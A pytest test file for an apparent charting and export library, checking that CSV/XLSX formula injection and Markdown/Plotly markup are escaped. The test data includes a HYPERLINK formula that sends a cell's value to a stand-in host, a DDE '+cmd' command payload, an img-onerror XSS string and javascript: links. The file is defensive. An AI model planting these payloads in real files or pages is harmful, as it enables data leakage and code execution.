"""Text from data leaves as text: in every file (formula injection) and on every chart (Plotly markup)."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from openpyxl import load_workbook

from starviz import escape, export

# OWASP "CSV injection": = + - @, tab, carriage return (and line feed), and their full-width forms.
OWASP = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2", "＝1+2", "＋1", "－1", "＠SUM(A1)", "  =1+2"]
HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Click")'


def _dangerous(text: object) -> bool:
    return isinstance(text, str) and text.lstrip(" \u00a0\u3000").startswith(escape.FORMULA_STARTS)


@pytest.mark.parametrize("text", [*OWASP, HYPERLINK])
def test_every_owasp_prefix_is_neutralised(text):
    assert escape.neutralise(text) == "'" + text
    assert escape.neutralise(escape.neutralise(text)) == "'" + text  # once is enough


@pytest.mark.parametrize("value", ["ABC Ltd", "O'Brien & Sons", "", 12, -16.66, None])
def test_plain_text_and_numbers_are_untouched(value):
    assert escape.neutralise(value) == value


def _hostile_pivot() -> pd.DataFrame:
    """A pivot whose column headers are data (departments), plus formula text in every kind of column."""
    frame = pd.DataFrame(
        {
            "supplier_name": [HYPERLINK, "ABC Ltd"],
            "=1+2": [1.0, 2.0],
            "+cmd|' /C calc'!A0": [3.0, -4.0],
            "category": pd.Categorical(["@SUM(A1)", "－1"]),
            "tags": [["=1", "b"], ["c"]],
            "amount_gbp": [-16.66, 5.0],
        }
    )
    return frame


def test_xlsx_headers_cells_sheet_names_and_notes_are_all_neutralised():
    data = export.to_xlsx_sheets(
        {"=1+2 sheet": _hostile_pivot(), "-minus": _hostile_pivot()},
        "=HYPERLINK(title)",
        {"Filters": "@evil", "=key": "+value"},
    )
    book = load_workbook(io.BytesIO(data))
    assert not any(name.startswith(("'", *escape.FORMULA_STARTS)) for name in book.sheetnames)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                assert not _dangerous(cell.value), f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
    first = book.worksheets[0]
    headers = [c.value for c in first[1]]
    assert "'=1+2" in headers and "'+cmd|' /C calc'!A0" in headers
    assert [c.value for c in first["F"][1:]] == [-16.66, 5.0]  # negative amounts stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_rows_and_headers_are_neutralised():
    text = export.to_csv(_hostile_pivot()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for value in row:
            assert not _dangerous(value) or _number(value), value
    assert rows[0][1] == "'=1+2" and rows[1][0] == "'" + HYPERLINK and rows[1][-1] == "-16.66"


def test_alt_text_is_plain_and_neutral():
    import plotly.graph_objects as go

    fig = go.Figure(go.Bar(x=escape.plotly(["<b>Bold</b> Ltd", "=1+2"]), y=[2.0, 1.0]))
    text = export.alt_text(fig, "=Top suppliers")
    assert not _dangerous(text) and "<b>Bold</b> Ltd" in text and "&lt;" not in text


# --- Markdown and Plotly ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    [
        "![b](http://evil.example/x.png)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "**bold** _it_ `code` ~~s~~ $x^2$ :red[red]",
        "# heading\n- item",
        "see www.evil.example or mail x@evil.example",
    ],
)
def test_markdown_escaping_leaves_no_active_syntax(hostile):
    out = escape.md(hostile)
    bare = re.sub(r"\\.", "", out)  # what is left once every escaped character is taken out
    assert not set(bare) & set("\\`*_{}[]()#+-.!|<>~$:&\n"), out
    shown = re.sub(r"\\(.)", r"\1", out).replace("\u2060", "")  # a word joiner is invisible
    assert shown == hostile.replace("\n", " ")  # the same characters, shown
    assert "://" not in out and "www." not in out.replace("\\", "")  # no autolinked URL either


def test_plotly_escaping_is_idempotent_and_keeps_lookups_consistent():
    frame = pd.DataFrame({"supplier": ['<a href="javascript:x">y</a>', "B & Q"], "spend_gbp": [1.0, 2.0]})
    out = escape.plotly(frame)
    assert out["supplier"].tolist() == ['&lt;a href="javascript:x"&gt;y&lt;/a&gt;', "B & Q"]
    assert escape.plotly(out).equals(out)
    assert frame["supplier"][0].startswith("<a")  # the caller's frame is not changed
    assert escape.plotly({"<b>": "#000"}) == {"&lt;b&gt;": "#000"}
    assert escape.unplotly(out["supplier"][0]) == frame["supplier"][0]


def test_every_chart_shows_hostile_labels_as_text():
    import inspect

    from starviz import charts

    wrapped = [n for n, f in inspect.getmembers(charts, inspect.isfunction) if getattr(f, "__plotly_escaped__", False)]
    assert {"spend_by_council_month", "stacked_by_council", "contract_timeline", "category_supplier_treemap"} <= set(wrapped)
    hostile = '<a href="javascript:alert(1)">Anchor</a> <b>BOLD</b>'
    frame = pd.DataFrame({"supplier_name": [hostile, "ABC Ltd"], "Trafford": [2.0, 1.0], "Stockport": [1.0, 0.0]})
    columns = {"Trafford": "Trafford", "Stockport": "Stockport"}
    fig = charts.stacked_by_council(frame, "supplier_name", columns, {"Trafford": "#D55E00"}, hostile)
    text = fig.to_json()
    assert "<a href" not in text.replace("\\u003c", "<") and "<b>BOLD" not in text.replace("\\u003c", "<")
    assert "&lt;a href" in text.replace("\\u0026", "&")  # still there, as text
